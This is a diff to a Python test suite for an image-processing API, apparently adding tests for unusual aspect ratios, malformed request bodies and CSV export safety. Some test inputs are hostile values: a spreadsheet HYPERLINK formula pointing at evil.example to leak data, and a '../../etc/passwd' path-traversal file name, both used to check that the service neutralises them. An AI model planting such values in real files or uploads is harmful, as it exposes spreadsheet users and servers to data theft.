@@ -7,6 +7,7 @@ affected and no original is modified. The counts are printed at the end of the r
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import struct
@@ -22,7 +23,24 @@ from chalicelib import contracts
 
 pytestmark = pytest.mark.slow
 BUCKET = "backdrop-test-bucket"
-COUNTS = {"inputs": 0, "faults": 0, "leak_checks": 0, "leaks": 0, "lost": 0}
+COUNTS = {
+    "inputs": 0,
+    "faults": 0,
+    "leak_checks": 0,
+    "leaks": 0,
+    "lost": 0,
+    "hostile_requests": 0,  # request bodies and uploads built to break the API
+    "server_errors": 0,  # ... of which answered 5xx (must stay 0)
+}
+NO_LABELS: dict[str, Any] = {"labels": []}  # for images label detection cannot read: nothing to keep
+CSV_FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","open me").png'
+WIDE_SIZES = {
+    "banner-4x1.png": (4000, 1000),
+    "wide-8000x2000.jpg": (8000, 2000),
+    "tall-1x4.jpg": (1000, 4000),
+    "wide-5x2.jpg": (5000, 2000),
+    "strip-80x1.png": (8000, 100),
+}
 
 
 def _save(img: Image.Image, fmt: str, **kwargs: Any) -> bytes:
@@ -60,7 +78,7 @@ def _bad_inputs() -> list[tuple[str, bytes, str, str, dict[str, Any]]]:
     ImageDraw.Draw(sixteen).ellipse((60, 40, 140, 130), fill=60000)
     good = _save(_subject((320, 240)), "PNG")
     return [
-        ("empty.png", b"", "png", "IMAGE_INVALID", {}),
+        ("empty.png", b"", "png", "IMAGE_INVALID", NO_LABELS),
         (
             "truncated.jpg",
             _save(Image.effect_noise((400, 300), 50).convert("RGB"), "JPEG")[:700],
@@ -68,11 +86,17 @@ def _bad_inputs() -> list[tuple[str, bytes, str, str, dict[str, Any]]]:
             "IMAGE_INVALID",
             {},
         ),
-        ("page.png", b"<html><body>not a photo</body></html>", "png", "IMAGE_INVALID", {}),
-        ("drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>', "png", "IMAGE_INVALID", {}),
-        ("bomb.png", _bomb(100_000, 100_000), "png", "IMAGE_TOO_LARGE", {}),
-        ("over-50mp.png", _bomb(8_000, 6_400), "png", "IMAGE_TOO_LARGE", {}),
-        ("tiny.png", _save(_subject((20, 20)), "PNG"), "png", "IMAGE_TOO_SMALL", {}),
+        ("page.png", b"<html><body>not a photo</body></html>", "png", "IMAGE_INVALID", NO_LABELS),
+        (
+            "drawing.png",
+            b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>',
+            "png",
+            "IMAGE_INVALID",
+            NO_LABELS,
+        ),
+        ("bomb.png", _bomb(100_000, 100_000), "png", "IMAGE_TOO_LARGE", NO_LABELS),
+        ("over-50mp.png", _bomb(8_000, 6_400), "png", "IMAGE_TOO_LARGE", NO_LABELS),
+        ("tiny.png", _save(_subject((20, 20)), "PNG"), "png", "IMAGE_TOO_SMALL", NO_LABELS),
         ("twelve-mp.jpg", _save(_subject((4000, 3000)), "JPEG", quality=85), "jpg", "SUCCEEDED", {}),
         ("tall-1x20.png", _save(_subject((100, 2000)), "PNG"), "png", "SUCCEEDED", {}),
         ("wide-20x1.png", _save(_subject((2000, 100)), "PNG"), "png", "SUCCEEDED", {}),
@@ -94,9 +118,15 @@ def _bad_inputs() -> list[tuple[str, bytes, str, str, dict[str, Any]]]:
             {},
         ),
         ("rotated.jpg", _save(_subject((300, 200)), "JPEG", exif=exif), "jpg", "SUCCEEDED", {}),
-        ("animated.png", _save(frames[0], "GIF", save_all=True, append_images=frames[1:]), "png", "IMAGE_INVALID", {}),
+        (
+            "animated.png",
+            _save(frames[0], "GIF", save_all=True, append_images=frames[1:]),
+            "png",
+            "IMAGE_INVALID",
+            NO_LABELS,
+        ),
         # Rekognition reads no WebP: it has no labels to keep (keeping one is a 400, test_api.py)
-        ("photo.webp", _save(_subject((300, 200)), "WEBP"), "webp", "SUCCEEDED", {"labels": []}),
+        ("photo.webp", _save(_subject((300, 200)), "WEBP"), "webp", "SUCCEEDED", NO_LABELS),
         ("plain-wall.png", _save(Image.new("RGB", (300, 200), (120, 120, 120)), "PNG"), "png", "NO_SUBJECT", {}),
         ("bus.png", good, "png", "SUCCEEDED", {}),
         ("bus.png", good, "png", "SUCCEEDED", {}),  # the same name twice in one batch
@@ -104,6 +134,16 @@ def _bad_inputs() -> list[tuple[str, bytes, str, str, dict[str, Any]]]:
         ("../../etc/passwd.png", good, "png", "SUCCEEDED", {}),
         ("café ☕ 写真.png", good, "png", "SUCCEEDED", {"prompt": 'a "quoted"\nmulti-line prompt — ünïcödé 🌅'}),
         ("n" * 251 + ".png", good, "png", "SUCCEEDED", {"labels": []}),
+        # any aspect ratio with the default model: letterboxed into its canvas, cropped back after
+        ("banner-4x1.png", _save(_subject((4000, 1000)), "PNG"), "png", "SUCCEEDED", {}),
+        ("wide-8000x2000.jpg", _save(_subject((8000, 2000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
+        ("tall-1x4.jpg", _save(_subject((1000, 4000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
+        ("wide-5x2.jpg", _save(_subject((5000, 2000)), "JPEG", quality=80), "jpg", "SUCCEEDED", {}),
+        ("strip-80x1.png", _save(_subject((8000, 100)), "PNG"), "png", "SUCCEEDED", {}),
+        # processable (>= 64 px) but too small for label detection (80 px): no labels, still processed
+        ("small-70px.png", _save(_subject((70, 70)), "PNG"), "png", "SUCCEEDED", NO_LABELS),
+        # names and prompts that a spreadsheet would run as formulas: neutralised in report.csv
+        (CSV_FORMULA_NAME, good, "png", "SUCCEEDED", {"prompt": "@SUM(1+1) a beach"}),
     ]
 
 
@@ -154,6 +194,15 @@ def test_bad_input_matrix_through_the_workflow(stack, token_for) -> None:
     assert Image.open(
         io.BytesIO(s3.get_object(Bucket=BUCKET, Key=rotated["outputs"][0]["key"])["Body"].read())
     ).size == (200, 300)
+    for image in view["images"]:  # panoramas and strips come back at their own size
+        if image["name"] in WIDE_SIZES:
+            result = s3.get_object(Bucket=BUCKET, Key=image["outputs"][0]["key"])["Body"].read()
+            assert Image.open(io.BytesIO(result)).size == WIDE_SIZES[image["name"]], image["name"]
+    report_csv = s3.get_object(Bucket=BUCKET, Key=contracts.report_key(owner, job_id, "csv"))["Body"].read().decode()
+    rows = list(csv.DictReader(io.StringIO(report_csv)))
+    formula_row = next(r for r in rows if r["name"].endswith('open me").png'))
+    assert formula_row["name"] == "'" + CSV_FORMULA_NAME and formula_row["prompt"] == "'@SUM(1+1) a beach"
+    assert not [cell for row in rows for cell in row.values() if cell and cell[0] in "=+-@\t\r"]
     for ref, data in before.items():  # no original modified
         assert s3.get_object(Bucket=BUCKET, Key=contracts.upload_key(owner, ref))["Body"].read() == data
     assert view["status"] == "PARTIAL" and view["counts"]["PENDING"] == view["counts"]["RUNNING"] == 0
@@ -387,3 +436,69 @@ def test_limits_are_refused_with_the_field_named(change, field) -> None:
         parse_job_request(body)
     assert field in [d["field"] for d in caught.value.details]
     COUNTS["inputs"] += 1
+
+
+def _hostile_bodies(ref: str) -> list[tuple[str, bytes]]:
+    """(route, raw body): each must be a 400 that names the problem, with nothing written."""
+    job = '{"prompt": "PROMPT", "images": [{"imageRef": "' + ref + '", "name": "a.png", "labels": []}]}'
+    return [
+        ("/jobs", job.replace("PROMPT", "sunset \\ud800 beach").encode()),  # lone surrogate: once a 500 + orphans
+        ("/jobs", job.replace("PROMPT", "caf\xe9").encode("latin-1")),  # not UTF-8
+        ("/jobs", b"[" * 100_000 + b"]" * 100_000),  # once a RecursionError
+        ("/jobs", b'{"images": ' + b"[" * 30 + b"]" * 30 + b"}"),
+        ("/jobs", job.replace("PROMPT", "x" * (contracts.MAX_REQUEST_BODY_BYTES + 1)).encode()),
+        ("/jobs", job.replace('"prompt"', '"seed": NaN, "prompt"').encode()),
+        ("/jobs", job.replace('"prompt"', '"seed": 1' + "0" * 5000 + ', "prompt"').encode()),
+        ("/jobs", job.replace('"prompt"', '"prompt": "first", "prompt"').encode()),
+        ("/uploads", b'{"files": [{"name": "\\udc00.png", "contentType": "image/png", "size": 10}]}'),
+        ("/labels", b'{"imageRefs": ["\\udfff"]}'),
+        ("/labels", b"\xef\xbb\xbf" + json.dumps({"imageRefs": [ref]}).encode()),
+    ]
+
+
+def test_hostile_request_bodies_are_all_400s_and_write_nothing(resources, rekognition, token_for) -> None:
+    from chalice.test import Client
+
+    import app as backdrop_app
+
+    owner = "user-hostile-bodies"
+    ref = upload(owner, "a.png", _save(_subject((320, 240)), "PNG"), "png")
+    table = boto3.resource("dynamodb").Table("backdrop-test-jobs")
+    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
+    with Client(backdrop_app.app, stage_name="dev") as client:
+        for path, body in _hostile_bodies(ref):
+            response = client.http.post(path, headers=headers, body=body)
+            COUNTS["hostile_requests"] += 1
+            COUNTS["server_errors"] += int(response.status_code >= 500)
+            assert response.status_code == 400, (path, body[:80], response.status_code, response.body[:200])
+            assert response.json_body["details"][0]["field"], response.json_body
+    assert table.scan()["Items"] == []  # no job, no image items, no label cache: nothing before validation
+    assert COUNTS["server_errors"] == 0
+
+
+def test_one_bad_file_never_costs_the_good_ones(resources, rekognition, token_for) -> None:
+    from chalice.test import Client
+
+    import app as backdrop_app
+
+    owner = "user-mixed-upload"
+    files = [
+        {"name": "ok.png", "contentType": "image/png", "size": 1000},
+        {"name": "page.html", "contentType": "text/html", "size": 1000},
+        {"name": "huge.png", "contentType": "image/png", "size": contracts.MAX_UPLOAD_BYTES + 1},
+        {"name": "empty.png", "contentType": "image/png", "size": 0},
+        {"name": "ok.jpg", "contentType": "image/jpeg", "size": 1000},
+        {"name": "x" * 300 + ".png", "contentType": "image/png", "size": 1000},
+    ]
+    headers = {"Authorization": token_for(owner), "Content-Type": "application/json"}
+    tiny = upload(owner, "tiny.png", _save(_subject((72, 64)), "PNG"), "png")
+    with Client(backdrop_app.app, stage_name="dev") as client:
+        granted = client.http.post("/uploads", headers=headers, body=json.dumps({"files": files}))
+        labels = client.http.post("/labels", headers=headers, body=json.dumps({"imageRefs": [tiny]}))
+    COUNTS["hostile_requests"] += 2
+    COUNTS["server_errors"] += int(granted.status_code >= 500) + int(labels.status_code >= 500)
+    assert granted.status_code == 201, granted.body
+    assert [u["name"] for u in granted.json_body["uploads"]] == ["ok.png", "ok.jpg"]
+    assert [r["index"] for r in granted.json_body["rejected"]] == [1, 2, 3, 5]  # every problem in one answer
+    assert labels.status_code == 200  # 64-79 px: once a 500 from Rekognition
+    assert "at least 80 px" in labels.json_body["unavailable"][tiny]["message"]
